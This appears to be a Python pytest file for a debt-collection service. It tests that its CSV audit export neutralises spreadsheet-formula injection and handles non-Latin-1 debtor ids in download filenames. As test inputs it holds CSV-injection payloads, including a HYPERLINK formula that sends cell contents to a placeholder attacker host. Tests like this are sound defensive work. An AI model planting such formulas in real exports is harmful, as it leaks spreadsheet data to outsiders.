"""CSV exports: debtor text cannot become a spreadsheet formula, and any debtor id makes a
valid download name (RFC 5987 ``filename*`` with an ASCII fallback)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from urllib.parse import unquote

import pytest

from bot.services.results.csv_export import csv_cell, to_csv
from tests.conftest import ADMIN_TOKEN
from tests.web.conftest import Site

ADMIN = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"clique")', "+SUM(1,2)", "@SUM(1+1)",
            "-2+3", "\tcmd", "\r=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_looking_text_is_prefixed_and_quoted(text: str) -> None:
    exported = to_csv([{"summary": text, "amount": Decimal("-5.00")}])
    [row] = list(csv.DictReader(io.StringIO(exported)))
    assert row["summary"] == "'" + text
    assert row["amount"] == "-5.00"  # numbers stay numbers
    assert exported.splitlines()[0] == '"summary","amount"'


@pytest.mark.parametrize("value", ["Padaria Sol", "a=b", "", "R$ 1.000,00", 3, None])
def test_ordinary_cells_are_unchanged(value: object) -> None:
    assert csv_cell(value) == ("" if value is None else value)


async def debtor_who_says(site: Site, external_id: str, text: str) -> None:
    body = {"creditor": "demo", "debtors": [{
        "external_id": external_id, "name": "Padaria Sol Ltda", "tax_id": "11.444.777/0001-61",
        "locale": "pt-BR", "contacts": [{"name": "Ana", "channel": "web", "address": "ana@sol.example"}],
        "debts": [{"external_id": "NF-1", "amount": "100.00", "currency": "BRL",
                   "due_date": "2026-11-06", "description": "NF 1"}]}]}
    async with site.client() as http:
        assert (await http.post("/api/v1/portfolio", json=body, headers=ADMIN)).status_code == 200
        turn = await http.post("/channels/web/messages", headers=ADMIN,
                               json={"sender": "ana@sol.example", "text": text})
        assert turn.status_code == 200, turn.text


async def test_audit_csv_escapes_debtor_text(site: Site) -> None:
    formula = FORMULAS[0]
    await debtor_who_says(site, "sol-1", formula)
    async with site.signed_in("carla") as http:
        response = await http.get("/admin/debtors/sol-1/audit", params={"format": "csv"})
    assert response.status_code == 200
    summaries = [r["summary"] for r in csv.DictReader(io.StringIO(response.text))]
    assert "'" + formula in summaries
    assert not any(s.startswith(("=", "+", "-", "@")) for s in summaries)


async def test_audit_csv_of_a_non_latin1_debtor_id_downloads(site: Site) -> None:
    external_id = "Łódź-債務-1"
    await debtor_who_says(site, external_id, "oi")
    async with site.signed_in("carla") as http:
        response = await http.get(f"/admin/debtors/{external_id}/audit", params={"format": "csv"})
    assert response.status_code == 200, response.text
    disposition = response.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="')
    fallback = disposition.split('filename="')[1].split('"')[0]
    assert fallback.isascii() and fallback.endswith(".csv")
    exact = disposition.split("filename*=UTF-8''")[1]
    assert unquote(exact) == f"audit-{external_id}.csv"
